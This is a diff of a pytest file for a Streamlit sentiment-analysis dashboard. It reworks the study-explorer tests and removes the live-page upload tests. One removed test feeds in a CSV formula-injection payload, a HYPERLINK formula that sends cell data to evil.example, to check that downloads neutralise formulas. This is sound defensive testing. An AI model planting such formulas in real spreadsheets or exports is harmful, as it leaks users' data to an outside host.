@@ -1,8 +1,6 @@
 """Every page under AppTest on missing, empty, locked, small and 1,000-trial databases."""
 from __future__ import annotations
 
-import csv
-import io
 import json
 import sqlite3
 from collections.abc import Callable
@@ -143,12 +141,15 @@ def test_study_explorer_renders_every_tab(open_page: Open, small_db: str) -> Non
     assert at.download_button(key="study_csv").label.startswith("Download")
     assert len(at.dataframe(key="study_table").value) == 12
     for label, titles in STUDY_TABS.items():
+        if label == "Importance":  # 8 complete trials: too few to rate (see below)
+            continue
         open_tab(at, label)
         no_exception(at)
         shown = [json.dumps(c.get("title", "")) for c in charts(at)]
         assert all(any(title in s for s in shown) for title in titles), (label, shown)
     open_tab(at, "Importance")
-    assert "importance is not trustworthy below 20" in texts(at.warning)
+    assert "Importance is not drawn: only 8 complete trials" in texts(at.info)
+    assert not charts(at)  # no confident bars under the warning
 
 
 def test_study_explorer_filters_and_shows_the_chosen_trial(open_page: Open,
@@ -158,7 +159,7 @@ def test_study_explorer_filters_and_shows_the_chosen_trial(open_page: Open,
     no_exception(at)
     shown = at.dataframe(key="study_table").value
     assert set(shown["state"]) == {"PRUNED"}
-    pruned = int(shown["number"].iloc[0])
+    pruned = int(shown["trial"].iloc[0])
     at.selectbox(key="study_trial").set_value(pruned).run()
     no_exception(at)
     assert "state PRUNED" in texts(at.caption)
@@ -171,7 +172,7 @@ def test_selecting_a_trial_row_shows_that_trials_diagnostics(open_page: Open,
                                                              small_db: str) -> None:
     at = open_page(small_db, "study")
     at.multiselect(key="study_states").set_value(["COMPLETE"]).run()
-    third = int(at.dataframe(key="study_table").value["number"].iloc[2])
+    third = int(at.dataframe(key="study_table").value["trial"].iloc[2])
     at.session_state["study_table"] = {"selection": {"rows": [2], "columns": [], "cells": []}}
     at.run()
     no_exception(at)
@@ -181,14 +182,128 @@ def test_selecting_a_trial_row_shows_that_trials_diagnostics(open_page: Open,
 
 
 @pytest.mark.parametrize("evaluator", ["fANOVA", "mean decrease impurity", "PED-ANOVA"])
-def test_importance_for_any_evaluator_and_a_per_class_target(open_page: Open, small_db: str,
+def test_importance_for_any_evaluator_and_a_per_class_target(open_page: Open, big_db: str,
                                                              evaluator: str) -> None:
-    at = open_tab(open_page(small_db, "study"), "Importance")
+    at = open_tab(open_page(big_db, "study"), "Importance")
     at.selectbox(key="study_evaluator").set_value(evaluator)
     at.selectbox(key="study_target").set_value("f1_negative").run()
     no_exception(at)
     found = chart(at, "hyperparameter importance")
     assert found["encoding"]["x"]["title"] == "importance for f1_negative"
+
+
+def open_study_linked(monkeypatch: pytest.MonkeyPatch, url: str, trial: str) -> AppTest:
+    """The study explorer opened from a link that ends in ?trial=<trial>."""
+    from dashboard import resources
+    from tests.dashboard.conftest import APP, PAGE_TIMEOUT_S
+
+    monkeypatch.setenv("SENTIMENT_DB", url)
+    resources.databases.clear()
+    at = AppTest.from_file(str(APP), default_timeout=PAGE_TIMEOUT_S)
+    at.run()
+    at.query_params["trial"] = trial
+    return at.switch_page("app_pages/study.py").run()
+
+
+def best_trial(at: AppTest) -> int:
+    table = at.dataframe(key="study_table").value
+    done = table[table["state"] == "COMPLETE"]
+    return int(done.loc[done["value"].idxmax(), "trial"])
+
+
+def test_study_link_opens_that_trial_and_a_pick_writes_the_link(
+        monkeypatch: pytest.MonkeyPatch, small_db: str) -> None:
+    at = open_study_linked(monkeypatch, small_db, "7")
+    no_exception(at)
+    assert at.selectbox(key="study_trial").value == 7
+    assert "Trial 7: state COMPLETE" in texts(at.caption)
+    at.selectbox(key="study_trial").set_value(3).run()
+    no_exception(at)
+    assert at.query_params["trial"] == "3" and "Trial 3: state" in texts(at.caption)
+    best = best_trial(at)
+    at.button(key="study_best").click().run()
+    assert at.selectbox(key="study_trial").value == best
+    assert at.query_params["trial"] == str(best)
+
+
+def test_study_opens_on_the_best_trial_and_says_so_when_a_link_is_wrong(
+        monkeypatch: pytest.MonkeyPatch, small_db: str) -> None:
+    at = open_study_linked(monkeypatch, small_db, "999")
+    no_exception(at)
+    assert "asks for trial 999, which this study does not have" in \
+        texts(at.warning).replace("\\", "")
+    best = best_trial(at)
+    picker = at.selectbox(key="study_trial")
+    assert picker.value == best and f"trial {best} (best)" in picker.options
+    assert at.button(key="study_best").label == f"Show the best trial ({best})"
+    assert f"Trial {best}: state COMPLETE" in texts(at.caption)
+
+
+def test_study_headline_and_table_give_n_and_the_95_interval(open_page: Open,
+                                                             small_db: str) -> None:
+    import re
+
+    at = open_page(small_db, "study")
+    no_exception(at)
+    best = best_trial(at)
+    assert re.search(rf"Best: trial {best}, value 0\.\d{{4}} on 80 validation reviews, "
+                     r"95% interval 0\.\d{3}–0\.\d{3}\.", texts(at.caption))
+    table = at.dataframe(key="study_table").value
+    assert {"trial", "value", "95% interval", "n (reviews)", "duration (s)", "learning rate",
+            "batch size"} <= set(table.columns)
+    done = table[table["state"] == "COMPLETE"]
+    assert (done["n (reviews)"] == 80).all() and done["95% interval"].str.match(
+        r"0\.\d{3}–[01]\.\d{3}").all()
+    assert table["learning rate"].str.fullmatch(r"\d\.\d{1,2}e-0\d").all()  # 3 significant
+
+
+def test_study_filters_show_running_trials_and_reset_when_the_database_changes(
+    open_page: Open, small_db: str, xss_db: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("SENTIMENT_DASHBOARD_URLS", f"small={small_db} hostile={xss_db}")
+    at = open_page(small_db, "study")
+    assert "RUNNING" in set(at.dataframe(key="study_table").value["state"])
+    at.multiselect(key="study_states").set_value(["PRUNED"]).run()
+    at.selectbox(key="study_trial").set_value(1).run()
+    at.sidebar.selectbox(key="database_choice").set_value("hostile").run()
+    no_exception(at)
+    assert at.multiselect(key="study_states").value == ["COMPLETE", "PRUNED", "FAIL", "RUNNING",
+                                                        "WAITING"]
+    table = at.dataframe(key="study_table").value
+    assert len(table) == 12 and "RUNNING" in set(table["state"])
+    assert at.selectbox(key="study_trial").value == best_trial(at)
+
+
+def test_study_brush_on_parallel_coordinates_lists_the_trials_inside(open_page: Open,
+                                                                    small_db: str) -> None:
+    at = open_tab(open_page(small_db, "study"), "Hyperparameters")
+    assert "Drag a box over one or more axes" in texts(at.caption)
+    lines = chart(at, "parallel coordinates")
+    params = lines.get("params", []) + lines["layer"][0].get("params", [])
+    assert [p["name"] for p in params if p.get("select", {}).get("type") == "interval"] == \
+        ["brush"]
+    at.session_state["study_parallel"] = {"selection": {"brush": {"index": [-0.2, 0.2],
+                                                                  "position": [0.5, 1.0]}}}
+    at.run()
+    no_exception(at)
+    rows = chart(at, "parallel coordinates")["rows"]
+    inside = {r["number"] for r in rows if r.get("index") == 0 and "number" in r
+              and 0.5 <= r["position"] <= 1.0}
+    listed = table_with(at, "95% interval")  # the only table on this tab
+    assert inside and set(listed["trial"]) == inside
+    assert f"{len(inside)} of 8 complete trials inside the brushed range" in texts(at.caption)
+
+
+def test_study_contour_plots_the_two_chosen_parameters(open_page: Open, small_db: str) -> None:
+    at = open_tab(open_page(small_db, "study"), "Hyperparameters")
+    at.selectbox(key="study_contour_x").set_value("warmup_ratio")
+    at.selectbox(key="study_contour_y").set_value("weight_decay").run()
+    no_exception(at)
+    contour = chart(at, "contour")
+    assert contour["title"] == "contour: objective over warmup ratio and weight decay"
+    assert len({r["number"] for r in contour["rows"]}) == 8
+    at.selectbox(key="study_contour_y").set_value("warmup_ratio").run()
+    assert "Pick two different hyperparameters" in texts(at.info)
 
 
 def test_evaluation_threshold_slider_recomputes_the_confusion(open_page: Open,
@@ -232,127 +347,6 @@ def test_evaluation_error_browser_filters_by_length(open_page: Open, small_db: s
     assert (table_with(at, "confidence")["length"] <= low + 60).all()
 
 
-def test_live_page_classifies_and_highlights_with_the_real_baseline(open_page: Open,
-                                                                    small_db: str) -> None:
-    at = open_page(small_db, "live")
-    no_exception(at)
-    assert "baseline" in at.selectbox(key="live_model").options[0]
-    assert "cannot be loaded" in at.expander[0].label  # the deleted fine-tuned model
-    at.text_area(key="live_text").set_value("A wonderful, moving film; the ending was dull.")
-    at.run()
-    no_exception(at)
-    assert next(m.label for m in at.metric) == "label"
-    assert at.metric[0].value in ("positive", "negative")
-    assert "-background[" in texts(at.markdown)
-    at.toggle(key="live_all").set_value(True).run()
-    assert len(table_with(at, "positive")) >= 1
-
-
-@pytest.mark.parametrize(("text", "message"), [
-    ("   \n\t ", "the review is empty"),
-    ("x" * 20_001, "shorten it to at most 20,000"),
-])
-def test_live_page_explains_bad_reviews(open_page: Open, small_db: str, text: str,
-                                        message: str) -> None:
-    at = open_page(small_db, "live")
-    at.text_area(key="live_text").set_value(text).run()
-    no_exception(at)
-    assert message in texts(at.error).replace("\\", "")
-
-
-def test_live_page_classifies_an_uploaded_csv(open_page: Open, small_db: str) -> None:
-    at = open_page(small_db, "live")
-    data = "\ufefftext,id\r\nA wonderful film,1\r\n   ,2\r\nAwful and boring,3\r\n"
-    at.file_uploader(key="live_csv").set_value(("r.csv", data.encode(), "text/csv")).run()
-    no_exception(at)
-    at.button(key="live_batch_run").click().run()
-    no_exception(at)
-    result = table_with(at, "error")
-    assert result["label"].tolist()[1] == "" and "empty" in result["error"].iloc[1]
-    assert set(result["label"].iloc[[0, 2]]) <= {"positive", "negative"}
-    assert at.progress[0].value == 100
-    assert at.download_button(key="live_batch_csv").label == "Download the results as CSV"
-
-
-@pytest.fixture
-def downloaded(monkeypatch: pytest.MonkeyPatch) -> Callable[[AppTest, str], bytes]:
-    """downloaded(at, key) -> the bytes the download button with that key serves.
-
-    AppTest keeps a download's bytes in a media store that it drops after each run; keep them.
-    """
-    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
-    from streamlit.testing.v1 import app_test
-
-    stores: list[MemoryMediaFileStorage] = []
-
-    class KeptMediaStorage(MemoryMediaFileStorage):
-        def __init__(self, media_endpoint: str) -> None:
-            super().__init__(media_endpoint)
-            stores.append(self)
-
-    monkeypatch.setattr(app_test, "MemoryMediaFileStorage", KeptMediaStorage)
-
-    def read(at: AppTest, key: str) -> bytes:
-        name = at.download_button(key=key).proto.url.rsplit("/", 1)[-1]
-        return stores[-1].get_file(name).content  # the latest run's store serves the button
-
-    return read
-
-
-def test_live_page_download_neutralises_formulas_but_shows_cells_as_uploaded(
-    open_page: Open, small_db: str, downloaded: Callable[[AppTest, str], bytes]
-) -> None:
-    link = '=HYPERLINK("http://evil.example/?"&A1,"Click for the full review")'
-    quoted = link.replace('"', '""')
-    data = f'text,id\r\n"{quoted}",1\r\n"@SUM(1+1)",2\r\nA fine film,3\r\n'
-    at = open_page(small_db, "live")
-    at.file_uploader(key="live_csv").set_value(("r.csv", data.encode(), "text/csv")).run()
-    at.button(key="live_batch_run").click().run()
-    no_exception(at)
-    shown = table_with(at, "error")
-    assert shown["text"].tolist() == [link, "@SUM(1+1)", "A fine film"]  # the screen: as uploaded
-    rows = list(csv.DictReader(io.StringIO(downloaded(at, "live_batch_csv").decode("utf-8"),
-                                           newline="")))
-    assert [r["text"] for r in rows] == ["'" + link, "'@SUM(1+1)", "A fine film"]
-    assert [float(r["score"]) for r in rows] == pytest.approx(shown["score"].tolist())
-    assert [r["label"] for r in rows] == shown["label"].tolist()
-
-
-def test_live_page_reads_a_headerless_upload_whole_and_says_so(open_page: Open,
-                                                                small_db: str) -> None:
-    at = open_page(small_db, "live")
-    data = b"A wonderful film\r\nAwful and boring\r\n"
-    at.file_uploader(key="live_csv").set_value(("plain.csv", data, "text/csv")).run()
-    no_exception(at)
-    captions = texts(at.caption).replace("\\", "")
-    assert "2 reviews in plain.csv" in captions
-    assert ("plain.csv has one column and no header row, so its first row was read as a review "
-            "too; to give the file a header, name the column text") in captions
-    at.button(key="live_batch_run").click().run()
-    assert table_with(at, "error")["text"].tolist() == ["A wonderful film", "Awful and boring"]
-
-
-@pytest.mark.parametrize(("data", "message"), [
-    (b"text\n\xff\xfe\n", "bad.csv is not valid UTF-8 (line 2)"),
-    (b"title,stars\nx,1\n", "expected a column named 'text' or 'review'"),
-    (b"text\n" + b"x\n" * 5001, "bad.csv has 5,001 reviews; give at most 5,000"),
-])
-def test_live_page_rejects_unreadable_csv_with_the_shared_readers_advice(
-    open_page: Open, small_db: str, data: bytes, message: str
-) -> None:
-    from dashboard.live_views import MAX_UPLOAD_ROWS
-    from trainer.errors import DataError
-    from trainer.predict import read_reviews_csv
-
-    at = open_page(small_db, "live")
-    at.file_uploader(key="live_csv").set_value(("bad.csv", data, "text/csv")).run()
-    no_exception(at)
-    with pytest.raises(DataError) as caught:  # what `predict --file` reads with, too
-        read_reviews_csv(data, "bad.csv", max_rows=MAX_UPLOAD_ROWS)
-    assert message in str(caught.value)
-    assert texts(at.error).replace("\\", "") == str(caught.value)
-
-
 @pytest.mark.parametrize("page", PAGES)
 def test_pages_with_a_thousand_trials_stay_aggregated(open_page: Open, big_db: str,
                                                       page: str) -> None:
@@ -368,7 +362,8 @@ def test_pages_with_a_thousand_trials_stay_aggregated(open_page: Open, big_db: s
             no_exception(at)
             shipped = [len(c["rows"]) for c in charts(at)]
             assert shipped and all(rows <= MAX_CHART_ROWS for rows in shipped), shipped
-        assert "importance is not trustworthy" not in texts(at.warning)
+        open_tab(at, "Importance")
+        assert "hyperparameter importance" in [c.get("title") for c in charts(at)]
         open_tab(at, "History")
         lines = chart(at, "intermediate values")["rows"]
         assert {r["state"] for r in lines} >= {"COMPLETE", "PRUNED"}
@@ -414,30 +409,3 @@ def test_run_without_stored_predictions_says_what_is_missing(open_page: Open,
     no_exception(at)
     assert "has no stored predictions" in texts(at.info)
     assert len(at.metric) == 6  # the stored metrics and curves are still shown
-
-
-class FakePredictor:
-    """Stands in for a model: positive when the review says "good"; its explainer crashes."""
-
-    name = "fake"
-
-    def predict_proba(self, texts):
-        import numpy as np
-
-        return np.array([0.9 if "good" in t else 0.2 for t in texts])
-
-    def explain(self, text, top_k=10):
-        raise RuntimeError("integrated gradients ran out of memory")
-
-
-def test_live_page_keeps_the_label_when_the_explainer_fails(open_page: Open, small_db: str,
-                                                            monkeypatch: pytest.MonkeyPatch
-                                                            ) -> None:
-    import trainer.predict
-
-    monkeypatch.setattr(trainer.predict, "load_predictor", lambda *a, **k: FakePredictor())
-    at = open_page(small_db, "live")
-    at.text_area(key="live_text").set_value("a good film").run()
-    no_exception(at)
-    assert at.metric[0].value == "positive" and at.metric[1].value == "0.900"
-    assert "Could not explain this prediction" in texts(at.warning)
